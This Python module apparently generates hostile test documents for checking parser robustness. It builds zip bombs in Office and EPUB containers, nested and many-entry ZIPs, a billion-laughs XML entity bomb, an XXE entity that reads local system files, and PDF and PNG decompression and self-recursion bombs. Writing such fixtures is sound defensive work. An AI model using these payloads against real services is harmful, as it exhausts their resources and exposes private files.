# Only this file makes documents that attack whoever opens them. Each is small, or quickly made.
"""Zip bombs, XML bombs, and PDF files and pictures that are larger inside than outside."""

from __future__ import annotations

import itertools
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from types import MappingProxyType

__all__ = [
    "endless_pdf",
    "flate_pdf",
    "huge_png",
    "laughs",
    "many_entries",
    "nested_zip",
    "pages_pdf",
    "picture_pdf",
    "recursive_pdf",
    "rewritten",
    "unusual_compression",
    "with_doctype",
    "xxe",
    "zip_bomb",
]

MIB = 1 << 20
# format -> its first part, which makes it that format, and the part that is the bomb
PARTS: Mapping[str, tuple[str, str]] = MappingProxyType(
    {
        "docx": ("[Content_Types].xml", "word/document.xml"),
        "pptx": ("[Content_Types].xml", "ppt/presentation.xml"),
        "xlsx": ("[Content_Types].xml", "xl/workbook.xml"),
        "epub": ("META-INF/container.xml", "OEBPS/chapter.xhtml"),
    }
)


def _deflated(data: bytes) -> bytes:
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    return pack.compress(data) + pack.flush()


def _repeated(data: bytes, times: int) -> bytes:
    """``data * times`` deflated: the compressed blocks are repeated, so the whole never exists."""
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = pack.compress(data) + pack.flush(zlib.Z_FULL_FLUSH)
    return block * times + b"\x03\x00"


def _archive(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A ZIP file of (name, deflated data, size as declared, checksum as declared)."""
    out, directory = bytearray(), bytearray()
    for name, data, size, checksum in members:
        fixed = struct.pack("<5H3I", 20, 0, 8, 0, 0x21, checksum, len(data), size)
        place = struct.pack("<5H2I", len(name), 0, 0, 0, 0, 0, len(out))
        directory += b"PK\1\2\x14\0" + fixed + place + name.encode()
        out += b"PK\3\4" + fixed + struct.pack("<2H", len(name), 0) + name.encode() + data
    count = len(members)
    end = struct.pack("<4H2IH", 0, 0, count, count, len(directory), len(out), 0)
    return bytes(out + directory + b"PK\5\6" + end)


def zip_bomb(kind: str, size: int, *, declared: int | None = None) -> bytes:
    """A document whose main part expands to ``size`` zeros, and says so unless it declares another size."""
    first, main = PARTS[kind]
    bomb = _repeated(bytes(MIB), size // MIB)
    said = min(size if declared is None else declared, 0xFFFFFFFE)
    return _archive([(first, _deflated(b"x"), 1, zlib.crc32(b"x")), (main, bomb, said, 0)])


def many_entries(count: int) -> bytes:
    """A directory of ``count`` entries for one name; the count beside it says 65535."""
    fixed = struct.pack("<5H3I", 20, 0, 0, 0, 0x21, 0, 0, 0)
    local = b"PK\3\4" + fixed + struct.pack("<2H", 5, 0) + b"word/"
    entry = b"PK\1\2\x14\0" + fixed + struct.pack("<5H2I", 5, 0, 0, 0, 0, 0, 0) + b"word/"
    end = struct.pack("<4H2IH", 0, 0, 0xFFFF, 0xFFFF, count * len(entry), len(local), 0)
    return local + entry * count + b"PK\5\6" + end


def nested_zip(depth: int) -> bytes:
    data = bytes(8 * MIB)
    for level in range(depth):
        out = BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as container:
            for number in range(4):
                container.writestr(f"{level}-{number}.zip", data)
        data = out.getvalue()
    return data


def unusual_compression(size: int) -> bytes:
    """A document that is compressed by bzip2, whose reader expands whole blocks at once."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as container:
        container.writestr("[Content_Types].xml", "x")
        container.writestr("word/document.xml", bytes(size))
    return out.getvalue()


# --- XML ------------------------------------------------------------------------------------------


def laughs() -> tuple[str, str]:
    """A document type whose last entity has 4 GB, and the reference to it."""
    letters = "abcdefghij"
    entities = [f'<!ENTITY {letters[0]} "hoho">']
    for inner, outer in itertools.pairwise(letters):
        entities.append(f'<!ENTITY {outer} "{f"&{inner};" * 10}">')
    return f"<!DOCTYPE bomb [{''.join(entities)}]>", f"&{letters[-1]};"


def xxe(path: str) -> tuple[str, str]:
    """A document type with a file of the system as entity, and the reference to it."""
    return f'<!DOCTYPE bomb [<!ENTITY stolen SYSTEM "file://{path}">]>', "&stolen;"


def with_doctype(xml: bytes, where: bytes, bomb: tuple[str, str]) -> bytes:
    """The document with a document type of its own, and the reference to its entity instead of ``where``."""
    assert where in xml
    declaration, mark, rest = xml.partition(b"?>")
    body = rest.replace(where, bomb[1].encode(), 1).removeprefix(b"<!DOCTYPE html>")
    return declaration + mark + bomb[0].encode() + body


def rewritten(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """A ZIP-based document with one part changed."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        assert part in old.namelist()
        for name in old.namelist():
            content = old.read(name)
            new.writestr(name, change(content) if name == part else content)
    return out.getvalue()


# --- PDF and pictures -------------------------------------------------------------------------------


def _pdf(objects: list[bytes]) -> bytes:
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)
    return bytes(out)


def _stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (more, len(data), data)


def _flate(data: bytes, times: int, more: bytes = b"") -> bytes:
    packed = b"\x78\xda" + _repeated(data, times) + bytes(4)
    return _stream(packed, more + b"/Filter/FlateDecode")


def _one_page(contents: bytes, objects: str = "", *more: bytes) -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<</XObject<<%s>>>>>>"
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            page % objects.encode(),
            contents,
            *more,
        ]
    )


def flate_pdf(size: int) -> bytes:
    """A page whose content expands to ``size`` zeros."""
    return _one_page(_flate(bytes(MIB), size // MIB))


def endless_pdf() -> bytes:
    """A page with 300 MB of operators that draw nothing: minutes of work for a reader written in Python."""
    return _one_page(_flate(b"0 0 m\n" * 50_000, 1_000))


def pages_pdf(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    tree = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)
    return _pdf([b"<</Type/Catalog/Pages 2 0 R>>", tree, *[page] * count])


def recursive_pdf() -> bytes:
    """A page tree that holds itself, and a form that draws itself."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>"
    data = _one_page(_stream(b"/F Do"), "/F 5 0 R", _stream(b"/F Do", form))
    return data.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[2 0 R]/Count 1")


def picture_pdf(width: int, height: int) -> bytes:
    """A page with a picture of that size, compressed to nearly nothing."""
    kind = b"/Type/XObject/Subtype/Image/ColorSpace/DeviceRGB/BitsPerComponent 8"
    kind += b"/Width %d/Height %d" % (width, height)
    rows = _flate(bytes(3 * width), height, kind)
    return _one_page(_stream(b"/I Do"), "/I 5 0 R", rows)


def huge_png(width: int, height: int) -> bytes:
    """A PNG of that size whose data is only its beginning."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
    data = b"\x78\xda" + _repeated(bytes(MIB), 64)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )
